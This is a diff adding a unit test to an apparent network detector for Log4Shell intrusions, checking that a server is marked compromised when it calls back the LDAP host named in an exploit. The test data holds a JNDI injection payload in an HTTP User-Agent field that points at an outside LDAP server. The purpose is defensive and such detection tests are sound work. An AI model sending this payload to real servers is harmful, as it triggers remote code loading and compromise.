@@ -81,6 +81,25 @@ static void exploit_and_callback_make_a_victim_in_any_order(void **state)
 	}
 }
 
+/* The exploit names whom to call: then it matters neither that all are inside nor that others are called as
+ * well. */
+static void server_that_calls_whom_the_exploit_named_was_entered(void **state)
+{
+	(void)state;
+	for (int hit = 0; hit < 2; hit++) {
+		struct timeline *t = timeline_new();
+		struct msg_flow f = flow_between(
+		    "10.3.0.1", hit ? "10.1.0.66" : "10.2.0.5", 1389, APP_LDAP, 100.5);
+		timeline_flow(t, &f);
+		request(
+		    t, "10.1.0.9", "10.3.0.1", FIELD_HTTP_USER_AGENT, "${jndi:ldap://10.1.0.66:1389/a}", 100);
+		timeline_finish(t, 200);
+		assert_int_equal(timeline_find(t, "entry.callback", "10.3.0.1") != NULL, hit);
+		assert_int_equal(timeline_find(t, "entry.callback", "10.1.0.9") != NULL, hit);
+		timeline_free(t);
+	}
+}
+
 /* What was asked is encrypted; that a server which never called out calls its asker is seen all the same. */
 static void server_that_never_called_and_calls_its_asker_was_entered(void **state)
 {
@@ -309,6 +328,7 @@ int main(void)
 	    cmocka_unit_test(lookups_of_log4j_are_read_through_their_disguise),
 	    cmocka_unit_test(ordinary_requests_carry_no_exploit),
 	    cmocka_unit_test(exploit_and_callback_make_a_victim_in_any_order),
+	    cmocka_unit_test(server_that_calls_whom_the_exploit_named_was_entered),
 	    cmocka_unit_test(server_that_never_called_and_calls_its_asker_was_entered),
 	    cmocka_unit_test(callbacks_of_protocols_that_call_back_are_ordinary),
 	    cmocka_unit_test(servers_that_call_out_by_habit_are_ordinary),
